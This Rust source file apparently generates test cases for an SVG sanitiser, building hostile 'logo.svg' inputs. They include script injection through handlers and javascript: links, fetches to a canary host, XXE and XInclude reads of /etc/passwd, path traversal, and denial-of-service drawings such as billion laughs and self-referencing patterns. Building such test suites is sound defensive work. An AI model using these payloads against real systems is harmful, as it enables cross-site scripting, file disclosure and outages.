//! Drawings that want to run scripts, to fetch what is elsewhere, or never to end.

use crate::packed::gzip;
use crate::{CANARY_HOST, Case, canary};

fn drawing(inside: &str) -> String {
    format!(
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='80' height='40'>\
         <rect width='80' height='40' fill='navy'/>{inside}</svg>"
    )
}

pub(crate) fn cases() -> Vec<Case> {
    let inside = [inside_scripts(), inside_fetches(), inside_endless()].concat();
    let mut cases: Vec<Case> =
        inside.into_iter().map(|(name, text)| case(name, drawing(&text).into_bytes())).collect();
    cases.extend(whole().into_iter().map(|(name, bytes)| case(name, bytes)));
    cases
}

fn case(name: &str, bytes: Vec<u8>) -> Case {
    Case::new(name, "logo.svg", "image/svg+xml", bytes)
}

fn inside_scripts() -> Vec<(&'static str, String)> {
    let js = canary();
    let html = "xmlns='http://www.w3.org/1999/xhtml'";
    vec![
        ("a script", format!("<script>{js}</script>")),
        ("a script in CDATA", format!("<script><![CDATA[{js}]]></script>")),
        ("a script from elsewhere", format!("<script xlink:href='https://{CANARY_HOST}/x.js'/>")),
        ("a handler of a click", format!("<circle r='9' onclick=\"{js}\" onmouseover=\"{js}\"/>")),
        ("a handler of an animation", format!("<animate attributeName='x' dur='1s' onbegin=\"{js}\"/>")),
        (
            "a page in it",
            format!(
                "<foreignObject width='9' height='9'><body {html}><script>{js}</script></body></foreignObject>"
            ),
        ),
        (
            "a frame in it",
            format!(
                "<foreignObject width='9' height='9'><iframe {html} src=\"javascript:{js}\"/></foreignObject>"
            ),
        ),
        (
            "a form in it",
            format!(
                "<foreignObject width='9' height='9'><form {html} action='https://{CANARY_HOST}/'><input autofocus='' onfocus=\"{js}\"/></form></foreignObject>"
            ),
        ),
        ("a link that runs", format!("<a xlink:href=\"javascript:{js}\"><rect width='80' height='40'/></a>")),
        (
            "an animation that makes a link run",
            format!("<a><set attributeName='href' to=\"javascript:{js}\"/><text>x</text></a>"),
        ),
        (
            "a handler element",
            format!("<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>{js}</handler>"),
        ),
    ]
}

fn inside_fetches() -> Vec<(&'static str, String)> {
    let away = format!("https://{CANARY_HOST}/ran");
    let nested = "data:image/svg+xml;utf8,&lt;svg xmlns='http://www.w3.org/2000/svg'>&lt;script>alert(1)&lt;/script>&lt;/svg>";
    vec![
        ("a picture from elsewhere", format!("<image width='9' height='9' xlink:href='{away}'/>")),
        (
            "a picture of this machine",
            "<image width='9' height='9' xlink:href='file:///etc/passwd'/>".to_owned(),
        ),
        ("a picture beside it", "<image width='9' height='9' href='../../../../tandem.db'/>".to_owned()),
        ("a part of another file", format!("<use xlink:href='{away}#a'/>")),
        ("a part of a drawing in its address", format!("<use href=\"{nested}#a\"/>")),
        ("a drawing in its address", format!("<image width='9' height='9' href=\"{nested}\"/>")),
        (
            "a page in its address",
            "<image width='9' height='9' href='data:text/html,&lt;script>alert(1)&lt;/script>'/>".to_owned(),
        ),
        ("a style that imports", format!("<style>@import url('{away}'); @import '{away}';</style>")),
        (
            "a style that fetches",
            format!(
                "<style>rect{{fill:url({away}#x);background:url({away})}} @font-face{{font-family:x;src:url({away})}}</style>"
            ),
        ),
        (
            "a filter that fetches",
            format!(
                "<filter id='f'><feImage xlink:href='{away}'/></filter><rect width='9' height='9' filter='url(#f)'/>"
            ),
        ),
        (
            "an inclusion",
            "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>"
                .to_owned(),
        ),
    ]
}

fn inside_endless() -> Vec<(&'static str, String)> {
    let doubling: String = (0..40)
        .map(|level| format!("<g id='d{}'><use href='#d{level}'/><use href='#d{level}'/></g>", level + 1))
        .collect();
    let patterns = "<pattern id='p' width='1' height='1'><rect width='9' height='9' fill='url(#p)'/></pattern>\
                    <mask id='m' mask='url(#m)'><rect width='9' height='9' mask='url(#m)'/></mask>\
                    <rect width='9' height='9' fill='url(#p)' mask='url(#m)'/>";
    vec![
        ("a part that uses itself", "<g id='a'><use href='#a'/></g>".to_owned()),
        ("parts that use each other", "<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>".to_owned()),
        ("parts that double forty times", format!("<defs><rect id='d0' width='1' height='1'/>{doubling}</defs><use href='#d40'/>")),
        ("patterns and masks of themselves", patterns.to_owned()),
        ("a filter over a continent", "<filter id='f' x='-99999' y='-99999' width='999999' height='999999'><feGaussianBlur stdDeviation='9999'/><feTurbulence numOctaves='999'/></filter><g filter='url(#f)'><rect width='9' height='9'/></g>".to_owned()),
        ("a filter in a filter", format!("<filter id='f'>{}</filter><rect width='80' height='40' filter='url(#f)'/>", "<feMorphology operator='dilate' radius='400'/>".repeat(60))),
        ("a line of a billion dashes", "<path d='M0 0H999999999' stroke='red' stroke-dasharray='0.001 0.001'/>".to_owned()),
        ("a hundred thousand levels", format!("{}{}", "<g>".repeat(100_000), "</g>".repeat(100_000))),
        ("a million points", format!("<path fill='red' d='M0 0{}'/>", " L3 4 L1 2".repeat(100_000))),
        ("numbers that are none", "<path d='M1e39 -1e39 Lnan inf C9e999 0 0 0 0 0Z'/><circle r='1e38' cx='-1e38'/>".to_owned()),
        ("letters as large as a town", format!("<text font-size='99999999' y='9'>{}</text>", "W".repeat(10_000))),
    ]
}

fn whole() -> Vec<(&'static str, Vec<u8>)> {
    let js = canary();
    let entities: String = (1..10)
        .map(|level| format!("<!ENTITY e{level} '{}'>", format!("&e{};", level - 1).repeat(10)))
        .collect();
    let with_type = |subset: &str, inside: &str| {
        format!("<?xml version='1.0'?><!DOCTYPE svg [{subset}]>{}", drawing(inside)).into_bytes()
    };
    let script = drawing(&format!("<script>{js}</script>"));
    let wide: Vec<u8> =
        [0xff, 0xfe].into_iter().chain(script.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    vec![
        (
            "a handler of its loading",
            drawing("").replacen("<svg ", &format!("<svg onload=\"{js}\" "), 1).into_bytes(),
        ),
        ("a billion laughs", with_type(&format!("<!ENTITY e0 'ha'>{entities}"), "<text>&e9;</text>")),
        (
            "one long entity many times",
            with_type(
                &format!("<!ENTITY e '{}'>", "x".repeat(50_000)),
                &format!("<text>{}</text>", "&e;".repeat(20_000)),
            ),
        ),
        ("an entity of itself", with_type("<!ENTITY a '&b;'><!ENTITY b '&a;'>", "<text>&a;</text>")),
        (
            "an entity of this machine",
            with_type("<!ENTITY e SYSTEM 'file:///etc/passwd'>", "<text>&e;</text>"),
        ),
        (
            "an entity from elsewhere",
            with_type(&format!("<!ENTITY % e SYSTEM 'https://{CANARY_HOST}/ran'> %e;"), ""),
        ),
        (
            "a document type from elsewhere",
            format!("<!DOCTYPE svg SYSTEM 'https://{CANARY_HOST}/x.dtd'>{}", drawing("")).into_bytes(),
        ),
        (
            "a style sheet that transforms",
            format!(
                "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='data:text/xml,x'?>{}",
                drawing("")
            )
            .into_bytes(),
        ),
        (
            "as wide as a planet",
            drawing("")
                .replacen("width='80' height='40'", "width='999999999' height='999999999'", 1)
                .into_bytes(),
        ),
        (
            "no size at all",
            drawing("")
                .replacen("width='80' height='40'", "width='0' height='-1' viewBox='0 0 0 0'", 1)
                .into_bytes(),
        ),
        ("packed", gzip(script.as_bytes())),
        ("in two bytes a letter", wide),
    ]
}
